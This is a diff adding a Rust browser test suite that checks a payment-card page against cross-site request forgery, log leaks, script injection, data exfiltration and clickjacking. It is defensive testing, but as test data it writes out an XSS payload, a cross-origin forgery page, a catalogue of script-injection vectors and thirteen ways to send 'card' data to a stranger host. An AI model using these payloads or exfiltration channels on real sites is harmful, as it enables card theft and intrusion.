@@ -1,0 +1,200 @@
+//! What other sites' pages and injected code can do to the page, in a real browser: nothing that matters (T4, T8, T12, T13, T14).
+
+use end2end::{Card, Result, Setup, Stranger, Visit, browser_test};
+use playwright_rs::expect;
+use serde_json::{Value, json};
+use std::time::Duration;
+
+const A_MOMENT: Duration = Duration::from_millis(700);
+
+#[test]
+fn t4_another_sites_page_gets_nothing_signed() {
+    browser_test(Setup::default(), async |visit| {
+        // A session is there to be abused.
+        visit.open().await?;
+        let sign = format!("{}/api/sign/create-payment-method", visit.site);
+        let page = format!(
+            "<form id=f method=post enctype=text/plain action='{sign}'><input name='{{}}' value=''></form><iframe name=i></iframe><script>
+             const ways = [
+               () => fetch('{sign}', {{ method: 'POST', body: '{{}}', mode: 'no-cors', credentials: 'include' }}),
+               () => fetch('{sign}', {{ method: 'POST', body: '{{}}', credentials: 'include', headers: {{ 'content-type': 'application/json' }} }}),
+               () => navigator.sendBeacon('{sign}', '{{}}'),
+               () => {{ f.target = 'i'; f.submit(); }},
+             ];
+             for (const way of ways) {{ try {{ way()?.catch?.(() => 0); }} catch {{}} }}
+             </script>"
+        );
+        let stranger = Stranger::with_page(page).await?;
+        for origin in [stranger.origin.clone(), stranger.origin.replace("127.0.0.1", "localhost")] {
+            visit.page.goto(&origin, None).await?;
+            tokio::time::sleep(A_MOMENT).await;
+        }
+        let sent = String::from_utf8_lossy(&visit.recorder.sent()).into_owned();
+        assert!(
+            sent.matches("POST /api/sign/create-payment-method").count() >= 4,
+            "the page did try"
+        );
+        assert!(visit.sandbox.calls().await?.is_empty(), "Zuora was not asked");
+        Ok(())
+    });
+}
+
+#[test]
+fn t8_neither_token_nor_signature_is_in_the_log() {
+    browser_test(Setup::default(), async |visit| {
+        visit.open().await?;
+        let ticket: Value = visit
+            .page
+            .evaluate(
+                "async () => (await fetch('/api/sign/create-payment-method', { method: 'POST', body: '{}', headers: { \
+                 'content-type': 'application/json' } })).json()",
+                None::<&()>,
+            )
+            .await?;
+        let log = visit.app.log();
+        assert!(log.contains("hmac-signatures") || log.contains("signature"), "the log is gathered");
+        for secret in ["token", "signature"] {
+            let secret = ticket[secret].as_str().ok_or("a ticket")?;
+            assert!(!log.contains(secret), "{log}");
+        }
+        assert!(!log.contains("sandbox-demo-secret") && !log.contains("Bearer "), "{log}");
+        Ok(())
+    });
+}
+
+#[test]
+fn t12_what_zuora_says_is_text_and_never_markup() {
+    browser_test(Setup::default(), async |visit| {
+        let form = visit.open().await?;
+        let message = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>";
+        let order = json!({"operation": "create-payment-method", "fault": {"reason": {"code": 59_210_020, "message": message}}});
+        visit.sandbox.order(&order).await?;
+        form.save_card(Card::VISA).await?;
+        expect(form.alert()).to_contain_text(message).await?;
+        let images: u32 = visit
+            .page
+            .evaluate("() => document.querySelectorAll('main img').length", None::<&()>)
+            .await?;
+        assert_eq!((images, visit.page.title().await?.contains("owned")), (0, false));
+        Ok(())
+    });
+}
+
+/// Tries each of these in the page, counts what the policy has blocked, and says which had an effect.
+async fn attempts(visit: &Visit, attempts: &[(&str, String)]) -> Result<(Vec<String>, u32)> {
+    let tried = json!(attempts);
+    let result: Value = visit
+        .page
+        .evaluate(
+            "async (attempts) => { \
+                 let blocked = 0; \
+                 document.addEventListener('securitypolicyviolation', () => blocked++); \
+                 window.owned = ''; \
+                 const done = []; \
+                 for (const [name, code] of attempts) { \
+                     try { await (await window.attempt[name]?.(code)); } catch {} \
+                     await new Promise((resume) => setTimeout(resume, 60)); \
+                     if (window.owned) done.push(name); \
+                     window.owned = ''; \
+                 } \
+                 return [done, blocked]; }",
+            Some(&tried),
+        )
+        .await?;
+    let done = result[0]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_str)
+        .map(str::to_owned);
+    let blocked = result[1].as_u64().and_then(|count| u32::try_from(count).ok());
+    Ok((done.collect(), blocked.ok_or("a count")?))
+}
+
+/// Ways of getting code to run that an injected piece of markup or a mistake of ours could open. The harness's own code runs outside the policy.
+const RUN: &str = "window.attempt = { \
+    inline: (code) => { const s = document.createElement('script'); s.append(code); document.body.append(s); }, \
+    handler: (code) => { const p = document.createElement('p'); p.setAttribute('onclick', code); document.body.append(p); p.click(); }, \
+    link: (code) => { const a = document.createElement('a'); a.setAttribute('href', 'javascript:' + code); document.body.append(a); a.click(); }, \
+    markup: (code) => { document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"${code}\">`); }, \
+    foreign: (url) => { const s = document.createElement('script'); s.setAttribute('src', url); document.body.append(s); }, \
+    object: (url) => { const o = document.createElement('object'); o.setAttribute('data', url); document.body.append(o); }, \
+    frame: (url) => { const f = document.createElement('iframe'); f.setAttribute('src', url); document.body.append(f); }, \
+    base: (url) => { const b = document.createElement('base'); b.setAttribute('href', url); document.head.append(b); \
+        if (document.baseURI.startsWith(url)) window.owned = 'yes'; b.remove(); }, \
+    worker: (url) => { new Worker(url); }, \
+};";
+
+#[test]
+fn t12_injected_code_does_not_run() {
+    browser_test(Setup::default(), async |visit| {
+        visit.page.add_init_script(RUN).await?;
+        visit.open().await?;
+        let stranger = Stranger::with_page("window.owned = 'yes'".into()).await?;
+        let code = "window.owned = 'yes'".to_owned();
+        let mine: Vec<_> = ["inline", "handler", "link", "markup"].map(|name| (name, code.clone())).into();
+        let theirs = ["foreign", "object", "frame", "base", "worker"].map(|name| (name, format!("{}/", stranger.origin)));
+        let all: Vec<_> = mine.into_iter().chain(theirs).collect();
+        let (done, blocked) = attempts(visit, &all).await?;
+        assert_eq!(done, Vec::<String>::new());
+        assert!(blocked >= 8, "{blocked} of {} were reported", all.len());
+        assert_eq!(stranger.requests(), Vec::<String>::new());
+        // The twin: where there is no such policy, the same attempts do run.
+        visit.page.goto(&stranger.origin, None).await?;
+        let (done, _) = attempts(visit, &all[..2]).await?;
+        assert_eq!(done, ["inline", "handler"]);
+        Ok(())
+    });
+}
+
+/// Ways of sending something away.
+const SEND: &str = "window.attempt = { \
+    fetch: (url) => fetch(url, { method: 'POST', body: 'card' }), \
+    opaque: (url) => fetch(url, { method: 'POST', body: 'card', mode: 'no-cors' }), \
+    beacon: (url) => { navigator.sendBeacon(url, 'card'); }, \
+    xhr: (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('card'); }, \
+    socket: (url) => { new WebSocket(url.replace('http', 'ws')); }, \
+    events: (url) => { new EventSource(url); }, \
+    image: (url) => { new Image().src = url; }, \
+    style: (url) => { document.body.style.backgroundImage = `url(${url})`; }, \
+    sheet: (url) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l); }, \
+    prefetch: (url) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l); }, \
+    preload: (url) => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = url; document.head.append(l); }, \
+    media: (url) => { const v = document.createElement('video'); v.src = url; v.load(); }, \
+    form: (url) => { const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit(); }, \
+};";
+
+#[test]
+fn t13_nothing_can_be_sent_to_anybody_else() {
+    browser_test(Setup::default(), async |visit| {
+        visit.page.add_init_script(SEND).await?;
+        visit.open().await?;
+        let stranger = Stranger::with_page(String::new()).await?;
+        let names = [
+            "fetch", "opaque", "beacon", "xhr", "socket", "events", "image", "style", "sheet", "prefetch", "preload", "media", "form",
+        ];
+        let all = names.map(|name| (name, format!("{}/collect", stranger.origin)));
+        let (_, blocked) = attempts(visit, &all).await?;
+        tokio::time::sleep(A_MOMENT).await;
+        assert_eq!(stranger.requests(), Vec::<String>::new());
+        assert!(blocked >= 11, "{blocked} of {} were reported", names.len());
+        // The twin: from a page without the policy they do arrive.
+        visit.page.goto(&stranger.origin, None).await?;
+        let before = stranger.requests().len();
+        attempts(visit, &all[..4]).await?;
+        assert!(stranger.requests().len() >= before + 3);
+        Ok(())
+    });
+}
+
+#[test]
+fn t14_no_other_site_can_frame_the_page() {
+    browser_test(Setup::default(), async |visit| {
+        let stranger = Stranger::with_page(format!("<h1>Win a prize</h1><iframe src='{}'></iframe>", visit.site)).await?;
+        visit.page.goto(&stranger.origin, None).await?;
+        tokio::time::sleep(A_MOMENT).await;
+        let framed = visit.page.frame_locator("iframe").locator("#card-form");
+        assert_eq!(framed.count().await?, 0);
+        Ok(())
+    });
+}
